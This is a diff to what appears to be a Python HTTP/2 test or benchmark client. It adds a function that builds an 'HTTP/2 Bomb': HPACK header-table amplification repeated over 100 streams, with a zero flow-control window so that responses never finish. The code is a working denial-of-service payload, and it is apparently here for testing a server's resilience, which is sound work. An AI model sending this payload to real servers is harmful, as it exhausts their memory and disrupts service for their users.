@@ -10,6 +10,9 @@ import struct
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 3, 4, 6, 7, 8
+CONTINUATION = 9
+FRAME_MAX = 16384
+BOMB_STREAMS = 100
 ACK = END_STREAM = 1
 END_HEADERS = 4
 INITIAL_WINDOW_SIZE = 4
@@ -32,6 +35,28 @@ def request(path, tls, window=None):
     settings = struct.pack(">HI", INITIAL_WINDOW_SIZE, window) if window else b""
     return (PREFACE + frame(SETTINGS, 0, 0, settings)
             + frame(HEADERS, END_STREAM | END_HEADERS, 1, head))
+
+
+def _section(stream, block):
+    """A whole request's fields, in as many frames as they need."""
+    parts = [block[at:at + FRAME_MAX] for at in range(0, len(block), FRAME_MAX)]
+    frames = [frame(CONTINUATION if i else HEADERS,
+                    (0 if i else END_STREAM) | (END_HEADERS if i == len(parts) - 1 else 0),
+                    stream, part) for i, part in enumerate(parts)]
+    return b"".join(frames)
+
+
+def bomb(path, n_fields):
+    """
+    The "HTTP/2 Bomb": a field put into the table once, then a byte for each time that it is
+    said again, on every stream; and no window for the replies, so that nothing ends.
+    """
+    head = bytes([0x82, 0x86]) + _literal(1, b"bench") + _literal(4, path)
+    entry = b"\x40" + bytes([1]) + b"x" + bytes([1]) + b"y"
+    again = b"\xbe" * n_fields  # Entry 62: the first of the table.
+    no_window = struct.pack(">HI", INITIAL_WINDOW_SIZE, 0)
+    return PREFACE + frame(SETTINGS, 0, 0, no_window) + b"".join(
+        _section(1 + 2 * i, head + (b"" if i else entry) + again) for i in range(BOMB_STREAMS))
 
 
 class Answer:
